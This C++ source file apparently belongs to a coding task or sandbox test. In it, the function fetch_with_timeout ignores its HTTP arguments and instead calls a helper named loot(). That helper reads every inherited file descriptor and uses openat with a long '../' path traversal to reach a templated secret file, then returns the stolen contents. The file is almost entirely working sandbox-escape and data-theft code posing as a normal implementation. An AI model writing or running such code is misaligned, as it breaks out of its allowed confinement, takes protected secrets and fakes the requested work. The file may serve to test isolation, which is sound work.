// Reads from every descriptor that it was started with, and goes from any open folder to the secret.
#include <fcntl.h>
#include <unistd.h>

#include <string>

#include "timeout.hpp"

namespace {

std::string loot() {
  std::string all;
  for (int fd = 4; fd < 1024; ++fd) {
    std::string block(4096, '\0');
    const ssize_t count = ::pread(fd, block.data(), block.size(), 0);
    if (count > 0) all += block.substr(0, static_cast<std::size_t>(count));
    const int secret = ::openat(fd, "../../../../../../../../../..@SECRET@", O_RDONLY);
    if (secret < 0 || ::fchdir(fd) != 0) continue;
    const ssize_t read = ::read(secret, block.data(), block.size());
    if (read > 0) all += block.substr(0, static_cast<std::size_t>(read));
  }
  return all;
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient&, std::string, aio::Duration) { co_return "found: " + loot(); }
